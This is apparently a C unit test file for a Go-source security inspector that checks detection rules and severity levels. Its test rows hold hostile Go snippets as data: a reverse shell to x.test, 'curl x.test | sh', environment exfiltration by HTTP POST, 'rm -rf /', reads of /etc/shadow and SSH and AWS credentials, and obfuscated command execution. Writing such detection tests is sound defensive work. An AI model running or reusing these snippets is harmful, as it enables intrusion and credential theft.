/* SPDX-License-Identifier: Apache-2.0 */
/* The Go inspector: what is found however it is written, what is not found where a name only looks alike, bounds. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "base/buf.h"
#include "base/str.h"
#include "inspect/inspect.h"
#include "inspect_helpers.h"

static struct rule_set *rules;

static struct findings inspect(const char *text, size_t len, enum inspection level)
{
	struct inspect_request req = { .kind = INSPECT_GO, .level = level, .text = text, .len = len };
	struct findings found = { 0 };

	assert_int_equal(inspect_text(rules, &req, &found, NULL), 0);
	return found;
}

struct row {
	const char *rule; /* NULL: nothing above MEDIUM */
	const char *code; /* behind "package main\n" */
};

static void check_rows(const struct row *row, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		char text[2048];
		struct findings f;
		bool right;

		(void)snprintf(text, sizeof(text), "package main\n%s\n", row[i].code);
		f = inspect(text, strlen(text), INSPECTION_GUARD);
		right = row[i].rule ? by_rule(&f, row[i].rule) != NULL : f.worst <= SEVERITY_MEDIUM;
		if (!right)
			print_error("wanted %s, worst is %s (%s):\n%s\n", row[i].rule ? row[i].rule : "nothing",
				    severity_name[f.worst], f.n ? f.row[0].rule : "no finding", text);
		findings_release(&f);
		assert_true(right);
	}
}

#define MAIN(body) "func main() { " body " }"

static void every_form_of_import(void **state UNUSED)
{
	static const struct row rows[] = {
		{ "go-process", "import \"os/exec\"\n" MAIN("exec.Command(\"ls\")") },
		{ "go-process", "import e \"os/exec\"\nvar f = e.Command" },
		{ "go-process", "import . \"os/exec\"\nvar f = Command" },
		{ "go-process", "import _ \"os/exec\"" },
		{ "go-process", "import `os/exec`" },
		{ "go-process", "import `os/\rexec`" }, /* the compiler drops CR from raw strings */
		{ "go-process", "import \"o\\x73/\\u0065x\\145c\"" },
		{ "go-process", "import/**/\"os/exec\"" },
		{ "go-process", "import (\n\t\"fmt\"; x \"os/exec\"\n)\n" MAIN("fmt.Println(x.Command)") },
		{ "go-syscall", "import \"golang.org/x/sys/unix\"" },
		{ "go-internal", "import \"internal/poll\"" },
		{ "go-cgo", "// #include <stdlib.h>\nimport \"C\"\n" MAIN("C.abort()") },
		{ "go-relative-import", "import \"./more\"" },
		{ NULL,
		  "// import \"os/exec\"\n/* import \"syscall\" */\n" MAIN("println(\"import \\\"unsafe\\\"\")") },
	};

	check_rows(rows, ARRAY_LEN(rows));
}

static void references_not_calls(void **state UNUSED)
{
	static const struct row rows[] = {
		{ "go-start-process", "import \"os\"\nvar start = os.StartProcess" },
		{ "go-start-process", "import . \"os\"\n" MAIN("StartProcess(\"x\", nil, nil)") },
		{ "go-start-process", "import \"os\"\n" MAIN("os /* a */ . // b\n StartProcess(\"x\", nil, nil)") },
		{ "go-start-process",
		  "import \"os\"\n" MAIN("defer func() { go os.StartProcess(\"x\", nil, nil) }()") },
		{ "go-process", "import \"os/exec\"\ntype T struct{ *exec.Cmd }" },
		{ "go-files", "import \"os\"\n" MAIN("for _, f := range []any{os.ReadFile} { _ = f }") },
		{ "go-environment", "import \"os\"\n" MAIN("println(len(os.Environ()))") },
		{ "go-reflection", "import \"reflect\"\n" MAIN("reflect.ValueOf(1).Method(0).Call(nil)") },
		{ NULL, "import (\"bufio\"; \"os\")\n" MAIN("bufio.NewReader(os.Stdin); os.Exit(len(os.Args))") },
	};

	check_rows(rows, ARRAY_LEN(rows));
}

static void local_names_hide_packages_only_in_their_scope(void **state UNUSED)
{
	static const struct row rows[] = {
		{ NULL, "import \"os\"\ntype T struct{}\nfunc (T) Remove(s string) {}\n" MAIN(
				"os := T{}; os.Remove(\"x\")") },
		{ NULL, "import \"os\"\ntype T struct{}\nfunc (T) Remove() {}\nfunc f(os T) { os.Remove() }\nvar _ = "
			"os.Args" },
		{ NULL, "import \"os\"\nfunc f(l []T) { for _, os := range l { os.Remove() } }\nvar _ = os.Args" },
		{ NULL,
		  "import \"os\"\nfunc f(x any) { switch os := x.(type) { case T: os.Remove() } }\nvar _ = os.Args" },
		{ NULL, "import \"os\"\nfunc f(c chan T) { select { case os := <-c: os.Remove() } }\nvar _ = os.Args" },
		{ NULL, "type exec struct{ Command int }\n" MAIN("var e exec; e.Command = 1") },
		{ "go-start-process", "import \"os\"\nfunc f(os int) {}\n" MAIN("os.StartProcess(\"x\", nil, nil)") },
		{ "go-start-process", "import \"os\"\n" MAIN("{ os := 1; _ = os }; os.StartProcess(\"x\", nil, nil)") },
		{ "go-start-process",
		  "import \"os\"\n" MAIN("var f func(os int); f(1); os.StartProcess(\"x\", nil, nil)") },
		{ "go-start-process", "import \"os\"\n" MAIN("os := os.StartProcess; _ = os") },
		{ "go-start-process",
		  "import \"os\"\n" MAIN("if os := 1; os > 0 {} ; os.StartProcess(\"x\", nil, nil)") },
	};

	check_rows(rows, ARRAY_LEN(rows));
}

static void folded_paths(void **state UNUSED)
{
	static const struct row rows[] = {
		{ "path-accounts",
		  "import \"os\"\nconst a = b + \"/passwd\"\nconst b = \"/etc\"\n" MAIN("os.ReadFile(a)") },
		{ "path-accounts", "import \"os\"\n" MAIN("p := \"/etc/\"; p += \"shadow\"; os.Open(p)") },
		{ "path-accounts", "import (\"os\"; \"strings\")\n" MAIN(
					   "os.Open(strings.Join([]string{\"\", \"etc\", \"passwd\"}, \"/\"))") },
		{ "path-accounts",
		  "import (\"os\"; \"strings\")\n" MAIN("os.Open(strings.ReplaceAll(\"/eXc/shadow\", \"X\", \"t\"))") },
		{ "path-accounts",
		  "import (\"fmt\"; \"os\")\n" MAIN("os.Open(fmt.Sprintf(\"/%s/%v%c\", \"etc\", \"passw\", 'd'))") },
		{ "path-accounts",
		  "import \"os\"\n" MAIN("os.Open(string([]byte{47, 0x65, 't', 99, 47}) + \"passwd\")") },
		{ "path-accounts",
		  "import (\"encoding/base64\"; \"os\")\n" MAIN(
			  "b, _ := base64.StdEncoding.DecodeString(\"L2V0Yy9wYXNzd2Q=\"); os.Open(string(b))") },
		{ "path-accounts",
		  "import (\"encoding/hex\"; \"os\")\n" MAIN(
			  "b, _ := hex.DecodeString(\"2f6574632f736861646f77\"); os.Open(string(b))") },
		{ "path-accounts", "import \"os\"\n" MAIN("f := os.ReadFile; f(\"xx/etc/passwd\"[2:])") },
		{ "path-ssh", "import (\"os\"; \"path/filepath\")\n" MAIN(
				      "h, _ := os.UserHomeDir(); os.Open(filepath.Join(h, \".ssh\", \"config\"))") },
		{ "path-cloud", "import \"os\"\n" MAIN("os.Open(os.Getenv(\"HOME\") + \"/.aws/credentials\")") },
		{ "code-path-secret",
		  "import \"os\"\n" MAIN("m := map[string]string{\"a\": \".env\"}; os.Open(m[\"a\"])") },
		{ "path-accounts", "import (\"io/fs\"; \"os\")\n" MAIN("fs.ReadFile(os.DirFS(\"/etc\"), \"passwd\")") },
		{ "path-accounts", "import (\"os\"; \"strings\")\n" MAIN(
					   "var b strings.Builder; b.WriteString(\"/etc\"); b.WriteByte('/'); "
					   "b.WriteString(\"shadow\"); os.Open(b.String())") },
		{ "path-accounts", "import (\"os\"; \"strings\")\n" MAIN(
					   "os.Open(strings.NewReplacer(\"#\", \"/\").Replace(\"#etc#shadow\"))") },
		{ "path-accounts",
		  "import (\"bytes\"; \"os\")\n" MAIN(
			  "os.Open(string(bytes.ReplaceAll([]byte(\"#etc#passwd\"), []byte(\"#\"), []byte(\"/\"))))") },
		{ "path-accounts",
		  "import (\"os\"; \"strconv\")\n" MAIN("s, _ := strconv.Unquote(`\"/etc/\\x70asswd\"`); os.Open(s)") },
		{ "path-accounts", "import \"os\"\n" MAIN("d := os.DirFS(\"/etc\"); d.Open(\"shadow\")") },
		{ "path-accounts",
		  "import \"os\"\n" MAIN("os.Open(\"/etc\" + string(os.PathSeparator) + \"passwd\")") },
		{ "go-remove-root", "import \"os\"\n" MAIN("os.Chmod(\"/\", 0777)") },
		{ "path-process", "import \"os\"\n" MAIN("os.Open(\"/proc/\" + os.Args[1] + \"/mem\")") },
		{ "go-remove-root", "import \"os\"\n" MAIN("os.RemoveAll(\"/\" + \"usr\")") },
		{ "go-permissions", "import \"os\"\n" MAIN("os.OpenFile(\"x\", os.O_CREATE, 0666)") },
		{ NULL, "import \"fmt\"\n" MAIN("fmt.Println(\"/etc/passwd\")") },
	};

	check_rows(rows, ARRAY_LEN(rows));
}

static void comments_that_are_orders(void **state UNUSED)
{
	static const struct row rows[] = {
		{ "go-linkname", "//go:linkname a syscall.forkExec\nfunc a()" },
		{ "go-linkname", "//go:cgo_import_dynamic a a \"x\"" },
		{ "go-linkname", "// #cgo LDFLAGS: -lx\nimport \"C\"" },
		{ "go-generate", "//go:generate sh -c \"echo\"" },
		{ "go-generate", "var s = `\n//go:generate sh\n`" },
		{ "go-embed", "//go:embed a.txt\nvar s string" },
		{ "go-embed-hidden", "//go:embed a.txt \".\\x65nv\"\nvar s string" },
		{ "go-embed-hidden", "//go:embed all:a\nvar s string" },
		{ "go-no-body", "func add(a int) int" },
		{ NULL, "// go:linkname is a directive, #cgo another\n" MAIN("println(\"//go:linkname a b\")") },
		{ NULL, "//go:build linux\n//go:noinline\nfunc f() {}" },
	};

	check_rows(rows, ARRAY_LEN(rows));
}

static void check_worst(const char *const *code, size_t n, enum severity least, enum severity most)
{
	for (size_t i = 0; i < n; i++) {
		char text[2048];
		struct findings f;
		bool right;

		(void)snprintf(text, sizeof(text), "package main\n%s\n", code[i]);
		f = inspect(text, strlen(text), INSPECTION_GUARD);
		right = f.worst >= least && f.worst <= most;
		if (!right)
			print_error("%s (%s):\n%s\n", severity_name[f.worst], f.n ? f.row[0].rule : "no finding", text);
		findings_release(&f);
		assert_true(right);
	}
}

static void guard_blocks_intent(void **state UNUSED)
{
	static const char *const intent[] = {
		"import \"os\"\n" MAIN("os.RemoveAll(\"/\")"),
		"import \"os\"\n" MAIN("h, _ := os.UserHomeDir(); os.RemoveAll(h)"),
		"import \"os\"\n" MAIN("os.ReadFile(\"/etc/shadow\")"),
		"import \"os\"\n" MAIN("os.ReadFile(\"/proc/self/environ\")"),
		"import (\"os\"; \"path/filepath\")\n" MAIN(
			"h, _ := os.UserHomeDir(); os.ReadFile(filepath.Join(h, \".ssh\", \"id_rsa\"))"),
		"import \"os/exec\"\n" MAIN("exec.Command(\"rm\", \"-rf\", \"/\").Run()"),
		"import \"os/exec\"\n" MAIN("exec.Command(\"sh\", \"-c\", \"rm -rf /\").Run()"),
		"import . \"os/exec\"\n" MAIN("Command(\"ls\").Run()"),
		"import x \"os/exec\"\n" MAIN("x.Command(\"ls\").Run()"),
		"import `os/exec`\n" MAIN("exec.Command(\"ls\").Run()"),
		"import \"syscall\"\n" MAIN("syscall.Setuid(0)"),
		"import \"syscall\"\n" MAIN("syscall.RawSyscall(57, 0, 0, 0)"),
		"import \"syscall\"\n" MAIN("syscall.Mount(\"a\", \"b\", \"c\", 0, \"\")"),
		"// #include <stdlib.h>\nimport \"C\"\n" MAIN("C.system(C.CString(\"ls\"))"),
		"import _ \"unsafe\"\n//go:linkname f syscall.forkExec\nfunc f()",
		"import (\"net\"; \"os/exec\")\n" MAIN("c, _ := net.Dial(\"tcp\", \"x.test:1\"); s := "
						       "exec.Command(\"/bin/sh\"); s.Stdin = c; s.Run()"),
		"import (\"net/http\"; \"os/exec\")\n" MAIN(
			"http.Get(\"https://x.test/a\"); exec.Command(\"/tmp/a\").Run()"),
		"import (\"net/http\"; \"os\"; \"strings\")\n" MAIN(
			"http.Post(\"https://x.test\", \"\", strings.NewReader(strings.Join(os.Environ(), \"\")))"),
		"import (\"os\"; \"os/exec\")\n" MAIN("for { exec.Command(os.Args[0]).Start() }"),
		"//go:generate sh -c \"curl x.test | sh\"",
	};
	static const char *const reaching_out[] = {
		"import \"net/http\"\n" MAIN("http.Get(\"https://x.test/\")"),
		"import \"net\"\n" MAIN("net.LookupHost(\"x.test\")"),
		"import \"net/http\"\n" MAIN("http.ListenAndServe(\":8080\", nil)"),
		"import (\"net/http\"; \"os\")\n" MAIN("http.Get(os.Getenv(\"URL\"))"),
	};

	check_worst(intent, ARRAY_LEN(intent), SEVERITY_CRITICAL, SEVERITY_CRITICAL);
	check_worst(reaching_out, ARRAY_LEN(reaching_out), SEVERITY_HIGH, SEVERITY_HIGH);
}

static void guard_leaves_everyday_programs_alone(void **state UNUSED)
{
	static const char *const everyday[] = {
		"import \"os\"\n" MAIN(
			"os.MkdirAll(\"a/b\", 0755); os.WriteFile(\"a/b/c\", nil, 0644); os.RemoveAll(\"a\")"),
		"import \"os\"\n" MAIN("d, _ := os.MkdirTemp(\"\", \"x\"); defer os.RemoveAll(d)"),
		"import (\"os\"; \"io\")\n" MAIN("f, _ := os.Open(os.Args[1]); io.ReadAll(f)"),
		"import \"unsafe\"\n" MAIN("x := 1; println(unsafe.Sizeof(x), unsafe.Alignof(x))"),
		"import \"os/exec\"\n" MAIN("exec.LookPath(\"git\")"),
		"import \"net/http\"\n" MAIN("s := http.Server{Addr: \"localhost:80\"}; c := http.Client{}; "
					     "go s.ListenAndServe(); c.Get(\"http://localhost/\")"),
		"import (\"archive/zip\"; \"os\"; \"path/filepath\"; \"strings\")\nfunc one(f *zip.File) { p := "
		"filepath.Join(\"out\", f.Name); if strings.HasPrefix(p, \"out/\") { os.Create(p) } }",
		"import (\"encoding/base64\"; \"os\")\n" MAIN(
			"b, _ := base64.StdEncoding.DecodeString(\"AAEC\"); os.WriteFile(\"logo.png\", b, 0o644)"),
		"import (\"os\"; \"os/signal\"; \"syscall\")\n" MAIN(
			"c := make(chan os.Signal, 1); signal.Notify(c, syscall.SIGTERM)"),
		"import \"reflect\"\n" MAIN("v := reflect.ValueOf(println); println(v.Kind(), v.NumMethod())"),
		"import (\"net/http\"; \"net/http/httptest\")\n" MAIN(
			"s := httptest.NewServer(nil); r, _ := http.Get(s.URL); r.Body.Close()"),
		"import \"net\"\n" MAIN("l, _ := net.Listen(\"tcp\", \"127.0.0.1:0\"); c, _ := net.Dial(\"tcp\", "
					"l.Addr().String()); c.Close()"),
		"import (\"fmt\"; \"net/http\"; \"os\")\n" MAIN(
			"http.HandleFunc(\"/etc/passwd\", nil); http.HandleFunc(\"/root/\", nil); m := "
			"http.NewServeMux(); "
			"m.Handle(\"/dev/status\", nil); fmt.Fprintln(os.Stderr, "
			"http.ListenAndServe(\"localhost:8080\", m))"),
		"import \"embed\"\n//go:embed static\nvar files embed.FS",
		"//go:generate stringer -type=Pill\ntype Pill int",
		"import \"io/ioutil\"\n" MAIN("ioutil.ReadFile(\"data.csv\")"),
		"import \"os\"\n" MAIN("println(os.Getenv(\"API_TOKEN\"), os.Getpid(), len(os.Environ()))"),
	};

	check_worst(everyday, ARRAY_LEN(everyday), SEVERITY_NONE, SEVERITY_MEDIUM);
}

/* What a program may well do is told, and not more than told. */
static void guard_tells_of_programs_and_memory(void **state UNUSED)
{
	static const char *const told[] = {
		"import \"os/exec\"\n" MAIN("exec.Command(\"ls\", \"-l\").Output()"),
		"import (\"os\"; \"os/exec\")\n" MAIN(
			"c := exec.Command(\"env\"); c.Env = append(os.Environ(), \"A=1\"); c.Run()"),
		"import \"os/exec\"\nvar execCommand = exec.Command\n" MAIN("execCommand(\"git\", \"log\").Run()"),
		"import \"os/exec\"\nconst bin = \"tool\"\n" MAIN("exec.Command(\"./bin/\"+bin, \"-x\"+\"y\").Run()"),
		"import \"os/exec\"\nfunc find(n string) string { return \"/opt/\" + n }\n" MAIN(
			"exec.Command(find(\"git\")).Run()"),
		"import (\"encoding/hex\"; \"os/exec\")\n" MAIN(
			"b, _ := hex.DecodeString(\"00ff\"); exec.Command(\"xxd\", string(b)).Run()"),
		"import (\"os/exec\"; \"strings\")\n" MAIN(
			"c := exec.Command(\"bash\"); c.Stdin = strings.NewReader(\"echo hi\"); c.Run()"),
		"import (\"encoding/hex\"; \"os/exec\")\nfunc find(n string) string { return \"/opt/\" + n }\n" MAIN(
			"exec.Command(find(\"git\")).Run()") "\nvar key, _ = hex.DecodeString(\"00ff\")",
		"import \"unsafe\"\n" MAIN("b := []byte(\"x\"); println(*(*string)(unsafe.Pointer(&b)))"),
		"import \"os\"\n" MAIN("f, _ := os.Create(\"/tmp/out\"); defer f.Close()"),
		"import (\"archive/zip\"; \"os\"; \"path/filepath\")\nfunc one(f *zip.File) { "
		"os.Create(filepath.Join(\"out\", f.Name)) }",
		"import \"net/http\"\n" MAIN("s := &http.Server{Addr: \":1234\"}; s.ListenAndServe()"),
		"import \"net/http\"\n" MAIN("c := &http.Client{}; c.Get(\"https://x.test/\")"),
		"import \"net/rpc\"\n" MAIN("rpc.Dial(\"tcp\", \"x.test:1\")"),
	};

	check_worst(told, ARRAY_LEN(told), SEVERITY_HIGH, SEVERITY_HIGH);
}

static void what_hides_a_program_is_blocked(void **state UNUSED)
{
	static const struct row rows[] = {
		{ "go-hidden-program",
		  "import (\"encoding/hex\"; \"os/exec\")\n" MAIN(
			  "b, _ := hex.DecodeString(s); exec.Command(\"bash\", \"-c\", string(b)).Run()") },
		{ "go-hidden-program", "import (\"bytes\"; \"compress/gzip\"; \"io\"; \"os/exec\")\n" MAIN(
					       "z, _ := gzip.NewReader(bytes.NewReader(raw)); b, _ := io.ReadAll(z); "
					       "exec.Command(\"sh\", \"-c\", string(b)).Run()") },
		{ "go-hidden-program",
		  "import (\"os/exec\"; \"strings\")\n" MAIN(
			  "exec.Command(strings.Join([]string{\"ba\", \"sh\"}, \"\"), \"x\").Run()") },
		{ "go-hidden-program",
		  "import \"os/exec\"\n" MAIN("exec.Command(string([]byte{115, 104}), \"x\").Run()") },
		{ "go-hidden-program", "import \"os/exec\"\n" MAIN("exec.Command(\"xbashx\"[1:5], \"x\").Run()") },
		{ "go-hidden-program",
		  "import \"os/exec\"\n" MAIN(
			  "k := []byte{36, 34}; for i := range k { k[i] ^= 65 }; exec.Command(string(k)).Run()") },
		{ "go-hidden-program",
		  "import \"os/exec\"\n" MAIN(
			  "exec.Command(back(\"hsab\")).Run()") "\n"
								"func back(s string) string { r := []rune(s); for i, j "
								":= 0, len(r)-1; i < j; i, j = i+1, "
								"j-1 { r[i], r[j] = r[j], r[i] }; return string(r) }" },
		{ "go-hidden-program",
		  "import (\"encoding/base64\"; \"os/exec\")\n" MAIN(
			  "open := func(s string) string { b, _ := base64.StdEncoding.DecodeString(s); return "
			  "string(b) }; exec.Command(open(x)).Run()") },
		{ "go-hidden-program", "import \"os/exec\"\nvar f any = exec.Command" },
		{ "go-hidden-program",
		  "import (\"os/exec\"; \"reflect\")\n" MAIN("reflect.ValueOf(exec.Command).Call(nil)") },
		{ "go-hidden-program",
		  "import (\"encoding/base64\"; \"os\"; \"os/exec\")\n" MAIN(
			  "b, _ := base64.StdEncoding.DecodeString(s); os.WriteFile(\"x\", b, 0o755); "
			  "exec.Command(\"./x\").Run()") },
		{ "sh-delete-tree",
		  "import (\"os/exec\"; \"strings\")\n" MAIN(
			  "c := exec.Command(\"sh\"); c.Stdin = strings.NewReader(\"rm -rf /\"); c.Run()") },
		{ "sh-delete-tree",
		  "import \"os\"\n" MAIN("os.WriteFile(\"x.sh\", []byte(\"#!/bin/sh\\nrm -rf /\\n\"), 0o755)") },
		{ "go-c-program",
		  "/*\n#include <stdlib.h>\nstatic void go(char *c) { system (c); }\n*/\nimport \"C\"\n" MAIN(
			  "C.go(nil)") },
		{ "go-linkname", "// #cgo LDFLAGS: -L/tmp -lx\nimport \"C\"\n" MAIN("") },
		{ "go-linkname", "// #cgo LDFLAGS: -Wl,-rpath=x\nimport \"C\"\n" MAIN("") },
		{ "go-plugin-open", "import \"plugin\"\n" MAIN("plugin.Open(\"x.so\")") },
		{ "go-kernel-call", "import \"syscall\"\n" MAIN("syscall.Mmap(-1, 0, 1, syscall.PROT_EXEC, 0)") },
	};

	check_rows(rows, ARRAY_LEN(rows));
}

static void a_comment_is_no_c_program(void **state UNUSED)
{
	static const char *const harmless[] = {
		"// #cgo CFLAGS: -O2 -Wall\n// #cgo linux LDFLAGS: -lm\n// #include <math.h>\nimport \"C\"\n" MAIN(
			"println(C.sqrt(2))"),
		"// system(3) is not called here.\n\nvar x = 1\n\n// #include <math.h>\nimport \"C\"\n" MAIN(
			"println(C.sqrt(2))"),
		"// #include <math.h>\nimport \"C\"\n\n// main does not fork(2).\n" MAIN("println(C.sqrt(2))"),
	};

	check_worst(harmless, ARRAY_LEN(harmless), SEVERITY_NONE, SEVERITY_MEDIUM);
}

static void the_level_decides(void **state UNUSED)
{
	static const struct {
		const char *code;
		const char *rule;
		enum severity severity[INSPECTION_COUNT];
	} rows[] = {
		{ "package a\nimport \"os/exec\"",
		  "go-process",
		  { [INSPECTION_STRICT] = SEVERITY_CRITICAL,
		    [INSPECTION_GUARD] = SEVERITY_MEDIUM,
		    [INSPECTION_REPORT] = SEVERITY_HIGH } },
		{ "package a\nimport \"net/http\"",
		  "go-network",
		  { [INSPECTION_STRICT] = SEVERITY_CRITICAL,
		    [INSPECTION_GUARD] = SEVERITY_MEDIUM,
		    [INSPECTION_REPORT] = SEVERITY_MEDIUM } },
		{ "package a\nimport \"example.org/x\"", "go-allow", { [INSPECTION_STRICT] = SEVERITY_CRITICAL } },
		{ "package a\nimport \"strings\"", "go-allow", { 0 } },
		{ "package a\nfunc {",
		  "parse-error",
		  { [INSPECTION_STRICT] = SEVERITY_CRITICAL,
		    [INSPECTION_GUARD] = SEVERITY_HIGH,
		    [INSPECTION_REPORT] = SEVERITY_MEDIUM } },
	};

	for (size_t i = 0; i < ARRAY_LEN(rows); i++)
		for (int trust = INSPECTION_REPORT; trust < INSPECTION_COUNT; trust++) {
			struct findings f = inspect(rows[i].code, strlen(rows[i].code), (enum inspection)trust);
			const struct finding *one = by_rule(&f, rows[i].rule);

			assert_int_equal(one ? one->severity : SEVERITY_NONE, rows[i].severity[trust]);
			findings_release(&f);
		}
}

static void place_and_resolved_name(void **state UNUSED)
{
	static const char text[] =
		"package main\nimport x \"os\"\nfunc main() {\n\tx.StartProcess(\"a\", nil, nil)\n}\n";
	struct findings f = inspect(text, sizeof(text) - 1, INSPECTION_GUARD);
	const struct finding *found = by_rule(&f, "go-start-process");
	struct finding one = found ? *found : (struct finding){ 0 };

	assert_string_equal(one.name, "os.StartProcess");
	assert_int_equal(one.line, 4);
	assert_int_equal(one.column, 2);
	assert_int_equal(one.end_column, 16);
	findings_release(&f);
}

/* Deep and wide texts end with an answer; that the walk does not recurse shows in its not crashing. */
static void hostile_shapes_end(void **state UNUSED)
{
	static const struct {
		const char *before, *again, *after;
		size_t times;
	} rows[] = {
		{ "package a\nvar x = ", "(", "", 200000 },
		{ "package a\nfunc f()", "{", "", 200000 },
		{ "package a\nimport \"os\"\nvar x = \"a\"", "+\"b\"", "", 50000 },
		{ "package a\nimport \"os\"\nvar x = os", ".a", "", 100000 },
		{ "package a\nimport \"strings\"\nfunc f() {", "strings.Repeat(\"aaaaaaaaaaaaaaaa\", 4000);", "}",
		  5000 },
		{ "package a\nimport \"os\"\nvar x = []string{", "\"/proc/a\",", "}", 20000 },
	};

	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		AUTO_BUF b = BUF_INIT(250 * KiB);
		struct findings f;

		(void)buf_adds(&b, rows[i].before);
		for (size_t k = 0; k < rows[i].times; k++)
			(void)buf_adds(&b, rows[i].again);
		(void)buf_adds(&b, rows[i].after);
		f = inspect(b.data, b.len, INSPECTION_GUARD);
		assert_true(f.n <= FINDINGS_MAX);
		findings_release(&f);
	}
}

static int setup(void **state UNUSED)
{
	return rules_builtin(&rules, NULL);
}

static int teardown(void **state UNUSED)
{
	rules_free(rules);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_form_of_import),
		cmocka_unit_test(references_not_calls),
		cmocka_unit_test(local_names_hide_packages_only_in_their_scope),
		cmocka_unit_test(folded_paths),
		cmocka_unit_test(comments_that_are_orders),
		cmocka_unit_test(guard_blocks_intent),
		cmocka_unit_test(guard_leaves_everyday_programs_alone),
		cmocka_unit_test(guard_tells_of_programs_and_memory),
		cmocka_unit_test(what_hides_a_program_is_blocked),
		cmocka_unit_test(a_comment_is_no_c_program),
		cmocka_unit_test(the_level_decides),
		cmocka_unit_test(place_and_resolved_name),
		cmocka_unit_test(hostile_shapes_end),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
